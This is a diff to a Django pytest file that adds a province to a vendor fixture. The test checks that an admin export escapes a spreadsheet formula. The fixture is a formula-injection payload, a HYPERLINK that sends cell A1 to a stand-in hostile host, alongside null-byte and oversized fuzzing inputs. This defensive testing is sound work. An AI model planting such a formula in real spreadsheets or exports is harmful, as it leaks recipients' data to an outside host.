@@ -11,6 +11,7 @@ from django.core.files.uploadedfile import SimpleUploadedFile
 
 from disbursements.models import Item, Vendor
 from monitoring.models import MinimumWage
+from regions.models import Province
 
 
 @pytest.mark.parametrize("query", [{"kabupaten": "\x00"}, {"kabupaten": "9" * 5000}, {"page": str(2**63)},
@@ -174,7 +175,7 @@ def exported_book(client, url, data=None):
 
 
 def test_an_admin_export_writes_a_formula_as_text_with_indonesian_sheet_and_headers(client, users):
-    Vendor.objects.create(name='=HYPERLINK("http://jahat.example/?"&A1,"klik")', npwp="01.234")
+    Vendor.objects.create(province=Province.objects.get(code="64"), name='=HYPERLINK("http://jahat.example/?"&A1,"klik")', npwp="01.234")
     client.force_login(users["admin"])
 
     book = exported_book(client, "/admin/disbursements/vendor/export/",
